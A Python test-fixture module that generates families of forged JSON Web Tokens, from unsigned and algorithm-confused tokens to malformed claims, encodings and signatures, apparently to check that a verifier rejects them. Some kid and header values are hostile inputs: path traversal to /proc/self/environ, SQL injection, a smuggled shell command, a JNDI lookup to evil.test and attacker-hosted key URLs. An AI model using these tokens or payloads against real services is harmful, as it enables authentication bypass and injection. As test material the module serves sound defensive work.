"""Tokens that must never open anything, by family, each as an attacker would send it.

Source of the families: RFC 8725 and its successor draft, the published playbooks against JWT libraries, CVEs of such
libraries since 2015. Every token here but `good` is wrong in exactly the way its name says: where a signature would
hide the fault, it is made with the issuer's own key.
"""

import base64
import hashlib
import hmac
import json
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import cached_property
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from jwt.algorithms import ECAlgorithm, OKPAlgorithm, RSAAlgorithm

ISSUER = "https://identity.test"
AUDIENCE = "gamebackend"
EVIL = "https://evil.test/keys"


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def text(value: object) -> bytes:
    return value if isinstance(value, bytes) else json.dumps(value).encode()


@dataclass
class Forge:
    """The issuer's keys, an attacker's keys, and a way to put any bytes together.

    Attributes:
        now_s: the present of the verifier.
    """

    now_s: int
    rsa_key: rsa.RSAPrivateKey = field(default_factory=lambda: rsa.generate_private_key(65537, 2048))
    ec_key: ec.EllipticCurvePrivateKey = field(default_factory=lambda: ec.generate_private_key(ec.SECP256R1()))
    ed_key: ed25519.Ed25519PrivateKey = field(default_factory=ed25519.Ed25519PrivateKey.generate)
    evil: rsa.RSAPrivateKey = field(default_factory=lambda: rsa.generate_private_key(65537, 2048))
    evil_ec: ec.EllipticCurvePrivateKey = field(default_factory=lambda: ec.generate_private_key(ec.SECP256R1()))
    evil_ed: ed25519.Ed25519PrivateKey = field(default_factory=ed25519.Ed25519PrivateKey.generate)

    @cached_property
    def document(self) -> bytes:
        """What the issuer publishes."""
        keys: list[dict[str, Any]] = [
            {**_public(RSAAlgorithm.to_jwk(self.rsa_key.public_key(), as_dict=True)), "kid": "rsa-1", "alg": "RS256"},
            {**_public(ECAlgorithm.to_jwk(self.ec_key.public_key(), as_dict=True)), "kid": "ec-1", "alg": "ES256"},
            {**_public(OKPAlgorithm.to_jwk(self.ed_key.public_key(), as_dict=True)), "kid": "ed-1", "alg": "EdDSA"},
        ]
        return json.dumps({"keys": [{**key, "use": "sig"} for key in keys]}).encode()

    def claims(self, **changes: Any) -> dict[str, Any]:
        """Return good claims, changed; None leaves one out."""
        usual = {
            "iss": ISSUER,
            "aud": AUDIENCE,
            "sub": "player-1",
            "scope": "guest",
            "iat": self.now_s,
            "nbf": self.now_s,
            "exp": self.now_s + 900,
            "jti": "t-1",
            "sid": "s-1",
        }
        return {name: value for name, value in (usual | changes).items() if value is not None}

    def header(self, **changes: Any) -> dict[str, Any]:
        usual = {"alg": "RS256", "kid": "rsa-1", "typ": "at+jwt"}
        return {name: value for name, value in (usual | changes).items() if value is not None}

    def sign(self, message: bytes) -> bytes:
        return self.rsa_key.sign(message, padding.PKCS1v15(), hashes.SHA256())

    def made(self, header: object, claims: object, sign: Callable[[bytes], bytes] | None = None) -> str:
        """Return a token of any header and claims, signed by the issuer's RSA key unless told otherwise."""
        message = f"{b64(text(header))}.{b64(text(claims))}"
        return f"{message}.{b64((sign or self.sign)(message.encode()))}"

    def with_claims(self, **changes: Any) -> str:
        return self.made(self.header(), self.claims(**changes))

    def with_header(self, **changes: Any) -> str:
        return self.made(self.header(**changes), self.claims())

    def sign_ec(self, message: bytes, key: ec.EllipticCurvePrivateKey | None = None) -> bytes:
        return ECAlgorithm(ECAlgorithm.SHA256).sign(message, key or self.ec_key)

    def good(self) -> dict[str, str]:
        """Return the tokens that must be let in, one for each kind of key: without them the others prove nothing."""
        return {
            "RS256": self.made(self.header(), self.claims()),
            "RS256, type JWT": self.with_header(typ="JWT"),
            "RS256, no type": self.with_header(typ=None),
            "ES256": self.made(self.header(alg="ES256", kid="ec-1"), self.claims(), self.sign_ec),
            "EdDSA": self.made(self.header(alg="EdDSA", kid="ed-1"), self.claims(), self.ed_key.sign),
        }

    def forged(self) -> dict[str, str]:
        """Return every forged token by family and name."""
        families = (
            _unsigned, _confused, _key_games, _kinds, _extensions, _types, _times, _audiences, _identities,
            _duplicates, _encodings, _shapes, _sizes, _signatures, _curves,
        )  # fmt: skip
        found: dict[str, str] = {}
        for family in families:
            for name, token in family(self):
                label = f"{family.__name__[1:]}: {name}"
                assert label not in found, label
                found[label] = token
        return found


Vectors = Iterator[tuple[str, str]]


def _public(jwk: dict[str, Any]) -> dict[str, Any]:
    jwk.pop("key_ops", None)
    return jwk


def _pem(forge: Forge) -> bytes:
    return forge.rsa_key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def _unsigned(forge: Forge) -> Vectors:
    nothing = lambda _: b""  # noqa: E731 - shorter than a function, and used here alone
    for algorithm in ("none", "None", "NONE", "nOnE", "", "null"):
        yield f"alg {algorithm!r}, no signature", forge.made(forge.header(alg=algorithm), forge.claims(), nothing)
        yield f"alg {algorithm!r}, signed all the same", forge.with_header(alg=algorithm)
    yield "no alg", forge.with_header(alg=None)
    yield "no alg, no signature", forge.made(forge.header(alg=None), forge.claims(), nothing)
    yield "the right alg, no signature", forge.made(forge.header(), forge.claims(), nothing)
    yield "alg null", forge.made(b'{"alg":null,"kid":"rsa-1"}', forge.claims())
    for odd in (["RS256"], {"RS256": 1}, 256, True):
        yield f"alg {odd}", forge.with_header(alg=odd)


def _confused(forge: Forge) -> Vectors:
    pem = _pem(forge)
    der = forge.rsa_key.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    jwk = json.loads(forge.document)["keys"][0]
    secrets = {
        "PEM": pem, "PEM without its last line break": pem.rstrip(), "DER": der, "modulus": jwk["n"].encode(),
        "key id": b"rsa-1", "key as JSON": json.dumps(jwk).encode(), "empty": b"", "the word secret": b"secret",
    }  # fmt: skip
    for name, secret in secrets.items():
        mac = lambda message, secret=secret: hmac.digest(secret, message, hashlib.sha256)  # noqa: E731 - as above
        yield f"HS256 by the {name}", forge.made(forge.header(alg="HS256"), forge.claims(), mac)
    yield (
        "HS256 in an RS256 header",
        forge.made(forge.header(), forge.claims(), lambda message: hmac.digest(pem, message, hashlib.sha256)),
    )
    for algorithm in ("HS384", "HS512", "RS384", "RS512", "PS256", "ES384", "ES512", "ES256K", "Ed25519", "rs256"):
        yield f"alg {algorithm}", forge.with_header(alg=algorithm)
    pss = padding.PSS(padding.MGF1(hashes.SHA256()), 32)
    yield (
        "PS256 signature under RS256",
        forge.made(forge.header(), forge.claims(), lambda message: forge.rsa_key.sign(message, pss, hashes.SHA256())),
    )
    yield (
        "SHA-1 under RS256",
        forge.made(
            forge.header(),
            forge.claims(),
            lambda message: forge.rsa_key.sign(message, padding.PKCS1v15(), hashes.SHA1()),  # noqa: S303 - weak on purpose
        ),
    )
    yield "ES256 with an RSA key's id", forge.made(forge.header(alg="ES256"), forge.claims(), forge.sign_ec)
    yield "EdDSA with an RSA key's id", forge.made(forge.header(alg="EdDSA"), forge.claims(), forge.ed_key.sign)
    yield "RS256 with an elliptic key's id", forge.with_header(kid="ec-1")
    yield (
        "EdDSA with an elliptic key's id",
        forge.made(forge.header(alg="EdDSA", kid="ec-1"), forge.claims(), forge.ed_key.sign),
    )
    for kind in ("dir", "A128KW", "PBES2-HS256+A128KW", "RSA-OAEP"):
        yield f"encryption {kind}", forge.with_header(alg=kind, enc="A128GCM", p2c=2**31)


def _key_games(forge: Forge) -> Vectors:
    evil = lambda message: forge.evil.sign(message, padding.PKCS1v15(), hashes.SHA256())  # noqa: E731 - as above
    jwk = _public(RSAAlgorithm.to_jwk(forge.evil.public_key(), as_dict=True))
    extras: dict[str, Any] = {
        "jku": EVIL, "x5u": EVIL, "jwk": jwk, "x5c": ["MIIB"], "x5t": "AAAA", "x5t#S256": "AAAA", "iss": EVIL,
    }  # fmt: skip
    for name, value in extras.items():
        yield f"{name}, signed by the attacker", forge.made(forge.header(**{name: value}), forge.claims(), evil)
        yield f"{name}, signed by the issuer", forge.with_header(**{name: value})
    yield "jku of the issuer with a trick", forge.with_header(jku=f"{ISSUER}@evil.test/keys")
    yield "the attacker's key under our id", forge.made(forge.header(), forge.claims(), evil)
    kids: dict[str, Any] = {
        "path": "../../../dev/null", "absolute path": "/proc/self/environ", "SQL": "x' UNION SELECT 'secret",
        "command": "x;sleep 10", "URL": EVIL, "NUL": "rsa-1\x00", "line break": "rsa-1\n", "space": " rsa-1",
        "case": "RSA-1", "empty": "", "number": 1, "list": ["rsa-1"], "object": {"rsa-1": 1}, "true": True,
        "long": "k" * 129, "not ASCII": "rsa\u20111", "template": "${jndi:ldap://evil.test/a}", "unknown": "rsa-9",
        "prototype": "__proto__",
    }  # fmt: skip
    for name, kid in kids.items():
        yield f"kid {name}", forge.made(forge.header(kid=kid), forge.claims(), evil)
    yield "no kid", forge.made(forge.header(kid=None), forge.claims())
    yield "kid null", forge.made(b'{"alg":"RS256","kid":null}', forge.claims())
    yield "another kid in the claims", forge.with_claims(kid="ec-1")
    yield "a kid in the claims that is no text", forge.with_claims(kid=["rsa-1"])


def _kinds(forge: Forge) -> Vectors:
    refresh = forge.claims(aud="refresh", scope="refresh", access_token_scope="guest")
    yield "refresh token as it is", forge.made(forge.header(typ="rt+jwt"), refresh)
    yield "refresh claims, access type", forge.made(forge.header(), refresh)
    yield "access claims, refresh type", forge.with_header(typ="rt+jwt")
    yield "refresh audience with a player's scope", forge.with_claims(aud="refresh")
    yield "player's audience with the refresh scope", forge.with_claims(scope="refresh")
    for kind in ("logout+jwt", "secevent+jwt", "id_token", "JWE", "application/at+jwt", "dpop+jwt", "resolution+jwt"):
        yield f"type {kind}", forge.with_header(typ=kind)
    for odd in (1, ["at+jwt"], {}, False, "", "at+jwt "):
        yield f"type {odd!r}", forge.with_header(typ=odd)


def _extensions(forge: Forge) -> Vectors:
    for crit in (["exp"], ["b64"], ["unknown"], [], "exp", None):
        name = json.dumps(crit)
        yield f"crit {name}", forge.made(text({**forge.header(), "crit": crit}), forge.claims())
    yield "crit that names a header here", forge.with_header(crit=["urgent"], urgent=True)
    yield "b64 false", forge.with_header(b64=False)
    yield "b64 false and critical", forge.with_header(b64=False, crit=["b64"])
    yield "b64 true", forge.with_header(b64=True)
    header, claims = forge.header(b64=False, crit=["b64"]), text(forge.claims())
    message = b64(text(header)).encode() + b"." + claims
    yield "payload as it is", f"{message.decode()}.{b64(forge.sign(message))}"
    yield "zip", forge.made(forge.header(zip="DEF"), zlib.compress(claims))
    yield "zip bomb", forge.made(forge.header(zip="DEF"), zlib.compress(b" " * 1_000_000))
    yield "cty of a nested token", forge.with_header(cty="JWT")
    yield "nested token", forge.made(forge.header(cty="JWT"), forge.made(forge.header(), forge.claims()).encode())
    yield "an unknown header", forge.with_header(foo="bar")


def _types(forge: Forge) -> Vectors:
    for name in ("header", "claims"):
        for odd in (b"[]", b"null", b"1", b'"a"', b"true", b"", b"{", b"{}}", b"{'alg':'RS256'}", b"{} {}", b"\x00"):
            parts = [text(forge.header()), text(forge.claims())]
            parts[name == "claims"] = odd
            yield f"{name} {odd!r}", forge.made(*parts)
    yield "no claims", forge.made(forge.header(), {})


def _times(forge: Forge) -> Vectors:
    now_s = forge.now_s
    for claim in ("exp", "iat"):
        yield f"no {claim}", forge.with_claims(**{claim: None})
    odd: dict[str, Any] = {
        "text": str(now_s + 900), "a float": now_s + 900.5, "whole float": float(now_s + 900), "true": True,
        "list": [now_s + 900], "object": {}, "negative": -1, "empty text": "", "text inf": "Infinity",
    }  # fmt: skip
    for claim in ("exp", "nbf", "iat"):
        for name, value in odd.items():
            yield f"{claim} {name}", forge.with_claims(**{claim: value})
        for name, raw in {
            "NaN": b"NaN", "Infinity": b"Infinity", "-Infinity": b"-Infinity", "null": b"null", "1e400": b"1e400",
            "1e3": b"1e12", "5,000 digits": b"9" * 5000, "2^63": b"9223372036854775808", "hex": b"0x7fffffff",
            "leading zero": b"01900000000", "plus": b"+1900000000",
        }.items():  # fmt: skip
            claims = text(forge.claims(**{claim: 4242424242})).replace(b"4242424242", raw)
            yield f"{claim} {name}", forge.made(forge.header(), claims)
    yield "expired", forge.with_claims(iat=now_s - 1000, nbf=now_s - 1000, exp=now_s - 100)
    yield "expired at the edge of the leeway", forge.with_claims(iat=now_s - 900, nbf=now_s - 900, exp=now_s - 5)
    yield "not before, later", forge.with_claims(nbf=now_s + 60)
    yield "issued later", forge.with_claims(iat=now_s + 60, nbf=now_s + 60, exp=now_s + 960)
    yield "issued after it ends", forge.with_claims(iat=now_s + 900, exp=now_s + 800)
    yield "no life", forge.with_claims(exp=now_s)
    yield "a life of a day", forge.with_claims(exp=now_s + 86_400)
    yield "endless", forge.with_claims(exp=2**62)
    yield "since the epoch", forge.with_claims(iat=0, nbf=0)


def _audiences(forge: Forge) -> Vectors:
    odd: dict[str, Any] = {
        "missing": None, "another": "refresh", "list": [AUDIENCE], "list with others": [AUDIENCE, "refresh"],
        "empty": "", "case": AUDIENCE.upper(), "space": f"{AUDIENCE} ", "part": AUDIENCE[:-1], "longer": AUDIENCE + "2",
        "object": {AUDIENCE: 1}, "true": True, "wildcard": "*", "NUL": AUDIENCE + "\x00",
    }  # fmt: skip
    for name, value in odd.items():
        yield f"aud {name}", forge.with_claims(aud=value)
    issuers: dict[str, Any] = {
        "missing": None, "another": "https://evil.test", "slash": f"{ISSUER}/", "list": [ISSUER], "http": "http://identity.test",
        "case": ISSUER.upper(), "user info": "https://identity.test@evil.test", "subdomain": f"{ISSUER}.evil.test",
        "port": f"{ISSUER}:443", "empty": "", "true": True, "look-alike": "https://\u0456dentity.test",
        "path": f"{ISSUER}/realms/evil",
    }  # fmt: skip
    for name, value in issuers.items():
        yield f"iss {name}", forge.with_claims(iss=value)


def _identities(forge: Forge) -> Vectors:
    subjects: dict[str, Any] = {
        "missing": None, "empty": "", "number": 7, "list": ["player-1"], "object": {}, "true": True, "long": "x" * 129,
        "NUL": "a\x00b", "line break": "a\nb", "escape": "a\x1b[2J", "C1 control": "a\x85b",
    }  # fmt: skip
    for name, value in subjects.items():
        yield f"sub {name}", forge.with_claims(sub=value)
    for name, value in subjects.items():
        if value is not None:
            yield f"sid {name}", forge.with_claims(sid=value)
            yield f"jti {name}", forge.with_claims(jti=value)
    scopes: dict[str, Any] = {
        "missing": None, "empty": "", "two": "guest operator", "list": ["guest"], "unknown": "root", "case": "Operator",
        "space": "guest ", "comma": "guest,operator", "wildcard": "*", "object": {"operator": True}, "true": True,
        "number": 1,
    }  # fmt: skip
    for name, value in scopes.items():
        yield f"scope {name}", forge.with_claims(scope=value)
    yield "scope under the names others use", forge.with_claims(scope=None, scp=["operator"], roles=["operator"])


def _duplicates(forge: Forge) -> Vectors:
    claims = text(forge.claims())
    for name, value in (("sub", "player-2"), ("scope", "operator"), ("iss", EVIL), ("aud", "x"), ("exp", 1), ("x", 1)):
        pair = f'"{name}": {json.dumps(value)}'.encode()
        yield f"{name} twice", forge.made(forge.header(), b"{" + pair + b", " + pair + b", " + claims[1:])
        if name != "x":
            yield f"{name} first", forge.made(forge.header(), b"{" + pair + b", " + claims[1:])
            yield f"{name} last", forge.made(forge.header(), claims[:-1] + b", " + pair + b"}")
    yield "spelled with an escape", forge.made(forge.header(), claims[:-1] + b', "\\u0073cope": "operator"}')
    yield "in an inner object", forge.made(forge.header(), claims[:-1] + b', "a": {"b": 1, "b": 2}}')
    for raw in (
        b'{"alg":"none","alg":"RS256","kid":"rsa-1"}', b'{"alg":"RS256","alg":"none","kid":"rsa-1"}',
        b'{"alg":"RS256","kid":"x","kid":"rsa-1"}', b'{"alg":"RS256","kid":"rsa-1","typ":"JWT","typ":"at+jwt"}',
    ):  # fmt: skip
        yield f"header {raw.decode()}", forge.made(raw, forge.claims())


def _encodings(forge: Forge) -> Vectors:
    for name, encoding in (
        ("UTF-16", "utf-16"),
        ("UTF-16 LE", "utf-16-le"),
        ("UTF-32", "utf-32"),
        ("BOM", "utf-8-sig"),
    ):
        yield f"header in {name}", forge.made(json.dumps(forge.header()).encode(encoding), forge.claims())
        yield f"claims in {name}", forge.made(forge.header(), json.dumps(forge.claims()).encode(encoding))
    claims = text(forge.claims())
    yield "not UTF-8", forge.made(forge.header(), claims.replace(b"player-1", b"player-\xff"))
    yield "overlong UTF-8", forge.made(forge.header(), claims.replace(b"player-1", b"player-\xc0\xaf"))
    yield "surrogate as UTF-8", forge.made(forge.header(), claims.replace(b"player-1", b"\xed\xa0\x80"))
    yield "half a pair, escaped", forge.made(forge.header(), claims.replace(b"player-1", b"\\ud800"))
    yield "halves in the wrong order", forge.made(forge.header(), claims.replace(b"player-1", b"\\udc00\\ud800"))
    yield "half a pair in a name", forge.made(forge.header(), claims[:-1] + b', "\\udfff": 1}')
    yield "a raw line break in a text", forge.made(forge.header(), claims.replace(b"player-1", b"player\n1"))
    yield "a comment", forge.made(forge.header(), claims[:-1] + b" /* */ }")
    yield "a comma too many", forge.made(forge.header(), claims[:-1] + b",}")


def _shapes(forge: Forge) -> Vectors:
    token = forge.made(forge.header(), forge.claims())
    parts = token.split(".")
    yield "empty", "."
    yield "two dots", ".."
    yield "one part", parts[0]
    yield "two parts", ".".join(parts[:2])
    yield "four parts", f"{token}.AA"
    yield "five parts", f"{token}.AA.AA"
    yield "a dot first", f".{token}"
    yield "a dot last", f"{token}."
    for index, name in enumerate(("header", "claims", "signature")):
        changed = {
            "padded": parts[index] + "=", "padded twice": parts[index] + "==", "percent sign": parts[index] + "%3D",
            "plus": "+" + parts[index][1:], "slash": "/" + parts[index][1:], "empty": "",
            "tab": parts[index][:4] + "\t" + parts[index][4:],
            "space inside": parts[index][:4] + " " + parts[index][4:], "line break": parts[index] + "\n",
            "carriage return": "\r\n" + parts[index], "NUL": parts[index] + "\x00",
            "not ASCII": parts[index] + "\u00e9", "full-width": "\uff45" + parts[index][1:],
            "impossible length": parts[index][: len(parts[index]) // 4 * 4] + "A",
        }  # fmt: skip
        for kind, part in changed.items():
            yield f"{name} {kind}", ".".join([*parts[:index], part, *parts[index + 1 :]])
    yield "half a surrogate pair", token + "\ud800"
    yield "stray bits at the end", token[:-1] + _with_stray_bits(token[-1])
    yield (
        "base64 of the standard alphabet",
        ".".join(base64.b64encode(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))).decode() for part in parts),
    )
    yield "JSON serialization", json.dumps({"protected": parts[0], "payload": parts[1], "signature": parts[2]})
    yield "two tokens", f"{token},{token}"
    yield "quoted", f'"{token}"'
    yield "a fragment", f"{token}#"
    yield "hex", token.encode().hex()


def _with_stray_bits(character: str) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    # 256 bytes leave four bits to the last character, so the lowest two... say nothing and must be zero.
    return alphabet[alphabet.index(character) | 1]


def _sizes(forge: Forge) -> Vectors:
    yield "just over the cap", "A" * 8193
    yield "a megabyte", "A" * 1_000_000
    yield "a megabyte of dots", "." * 1_000_000
    yield "a signed token over the cap", forge.with_claims(note="n" * 8000)
    for opening, closing in (("[", "]"), ('{"a":', "}")):
        deep = (opening * 33 + "1" + closing * 33).encode()
        yield (
            f"33 levels of {opening}",
            forge.made(forge.header(), text(forge.claims())[:-1] + b', "a": ' + deep + b"}"),
        )
    yield "3,000 levels", forge.made(forge.header(), b"[" * 3000)
    yield "3,000 levels in the header", forge.made(b"[" * 3000 + b"]" * 3000, forge.claims())
    yield (
        "a number of 3,000 digits",
        forge.made(forge.header(), text(forge.claims(n=4242)).replace(b"4242", b"4" * 3000)),
    )
    yield (
        "a number of many exponents",
        forge.made(forge.header(), text(forge.claims(n=4242)).replace(b"4242", b"1e999999999")),
    )


def _signatures(forge: Forge) -> Vectors:
    token = forge.made(forge.header(), forge.claims())
    header, claims, signature = token.split(".")
    raw, modulus = base64.urlsafe_b64decode(signature + "=="), forge.rsa_key.public_key().public_numbers().n
    changed = {
        "cut by one": raw[:-1], "cut to half": raw[:128], "one byte": raw[:1], "longer by one": raw + b"\x00",
        "a zero in front": b"\x00" + raw, "all zero": b"\x00" * 256, "all ones": b"\xff" * 256,
        "one": b"\x00" * 255 + b"\x01", "one bit changed": bytes([raw[0] ^ 1]) + raw[1:],
        "reversed": raw[::-1], "twice": raw + raw,
        "modulus added": (int.from_bytes(raw, "big") + modulus).to_bytes(257, "big"),
    }  # fmt: skip
    for name, value in changed.items():
        yield name, f"{header}.{claims}.{b64(value)}"
    other = forge.made(forge.header(), forge.claims(sub="player-2")).split(".")
    yield "of another token", f"{header}.{claims}.{other[2]}"
    yield "claims of another token", f"{header}.{other[1]}.{signature}"
    yield "header of another token", f"{forge.with_header(typ='JWT').split('.')[0]}.{claims}.{signature}"
    yield "over the claims alone", f"{header}.{claims}.{b64(forge.sign(claims.encode()))}"
    yield "over the decoded parts", f"{header}.{claims}.{b64(forge.sign(text(forge.header()) + text(forge.claims())))}"


def _curves(forge: Forge) -> Vectors:
    header, claims = forge.header(alg="ES256", kid="ec-1"), forge.claims()
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    numbers = {
        "zeros": (0, 0), "r zero": (0, 1), "s zero": (1, 0), "ones": (1, 1), "the order": (order, order),
        "r the order": (order, 1), "over the order": (order + 1, order + 1), "all ones": (2**256 - 1, 2**256 - 1),
    }  # fmt: skip
    for name, (r, s) in numbers.items():
        raw = r.to_bytes(32, "big") + s.to_bytes(32, "big")
        yield f"ES256 {name}", forge.made(header, claims, lambda _, raw=raw: raw)
    der = lambda message: forge.ec_key.sign(message, ec.ECDSA(hashes.SHA256()))  # noqa: E731 - as above
    yield "ES256 in DER", forge.made(header, claims, der)
    for name, change in {
        "cut": lambda raw: raw[:-1], "longer": lambda raw: raw + b"\x00", "empty": lambda _: b"",
        "48 bytes a half": lambda raw: b"\x00" * 16 + raw[:32] + b"\x00" * 16 + raw[32:],
    }.items():  # fmt: skip
        yield f"ES256 {name}", forge.made(header, claims, lambda message, change=change: change(forge.sign_ec(message)))
    yield "ES256 by the attacker", forge.made(header, claims, lambda message: forge.sign_ec(message, forge.evil_ec))
    p384 = ec.generate_private_key(ec.SECP384R1())
    yield (
        "ES256 on P-384",
        forge.made(header, claims, lambda message: ECAlgorithm(ECAlgorithm.SHA256).sign(message, p384)),
    )
    ed = forge.header(alg="EdDSA", kid="ed-1")
    group = 2**252 + 27742317777372353535851937790883648493

    def malleable(message: bytes) -> bytes:
        good = forge.ed_key.sign(message)
        return good[:32] + (int.from_bytes(good[32:], "little") + group).to_bytes(32, "little")

    yield "EdDSA zeros", forge.made(ed, claims, lambda _: b"\x00" * 64)
    yield "EdDSA neutral point", forge.made(ed, claims, lambda _: b"\x01" + b"\x00" * 63)
    yield "EdDSA with s over the order", forge.made(ed, claims, malleable)
    yield "EdDSA cut", forge.made(ed, claims, lambda message: forge.ed_key.sign(message)[:-1])
    yield "EdDSA by the attacker", forge.made(ed, claims, forge.evil_ed.sign)
